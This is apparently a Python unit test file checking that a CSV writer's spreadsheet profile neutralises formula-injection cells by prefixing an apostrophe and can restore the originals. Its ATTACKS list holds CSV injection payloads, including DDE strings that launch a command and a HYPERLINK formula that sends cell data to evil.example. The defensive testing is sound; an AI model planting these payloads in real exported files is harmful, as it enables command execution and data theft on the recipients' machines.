"""Row 58 of the bad inputs, on the way out: what a spreadsheet would take for a formula, and how it comes back as it was."""

import pyarrow as pa
import pytest
from hypothesis import given, strategies as st

from krai.formats.output import open_format
from krai.formats.spreadsheet import dangerous, defuse, restore
from tests.unit.formats.writing import write, write_as

# OWASP, "CSV Injection": the characters that begin a formula, and what attackers put before them.
ATTACKS = [
    "=cmd|'/c calc'!A0",
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1",
    "-abc",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "' \"'=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "=",
    "-",
]
HARMLESS = ["", "a", "a=1", "1-1", "'", "''", "it's", "'quoted'", " x", '"x"', "007", "é", "1,5", "a\n=b", "\x00"]
TEXT = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n'\" \uff1d\u3000a1"), st.characters(exclude_categories=["Cs"])), max_size=6)


@pytest.mark.parametrize("cell", ATTACKS, ids=ascii)
def test_58_what_would_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    made, count = defuse(pa.array([cell, None]))
    assert (made.to_pylist(), count) == ([f"'{cell}", None], 1)
    assert restore(made).to_pylist() == [cell, None]


@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_58_other_text_stays(cell: str) -> None:
    assert not dangerous(pa.array([cell]))[0].as_py()
    assert (defuse(pa.array([cell]))[0].to_pylist(), restore(pa.array([cell])).to_pylist()) == ([cell], [cell])


@given(st.lists(TEXT, min_size=1))
def test_58_every_text_comes_back(cells: list[str]) -> None:
    column = pa.array(cells)
    made, count = defuse(column)
    assert restore(made).to_pylist() == cells
    assert count == sum(before != after for before, after in zip(cells, made.to_pylist(), strict=True))
    # Nothing that begins a formula is left at the beginning of a cell.
    assert not any(cell[:1] in set("=+-@\t\r\n\uff1d") - {""} for cell in made.to_pylist())


TABLE = pa.table({"=x": pa.array(["=1+1", "a", "'=1", None]), "n": pa.array([-1, -2, None, 3]), "f": pa.array([-0.5, 1.0, None, None])})


def test_58_a_file_for_a_spreadsheet_says_how_many_cells_are_altered() -> None:
    made, count = write_as(open_format({"csv": {"profile": "spreadsheet"}}, TABLE.schema), TABLE)
    assert made.decode() == "\ufeff'=x,n,f\r\n'=1+1,-1,-0.5\r\na,-2,1.0\r\n''=1,,\r\n,3,\r\n"
    assert count == 3, "that of the header is one of them"


def test_58_without_the_profile_every_cell_is_as_it_was() -> None:
    made, count = write_as(open_format({}, TABLE.schema), TABLE)
    assert (made.decode(), count) == ("=x,n,f\n=1+1,-1,-0.5\na,-2,1.0\n'=1,,\n,3,\n", 0)


def test_58_base64_may_begin_like_a_formula_too() -> None:
    assert write(pa.table({"b": [b"\xf8", b"a"]}), csv={"profile": "spreadsheet"}).decode() == "\ufeffb\r\n'+A==\r\nYQ==\r\n"
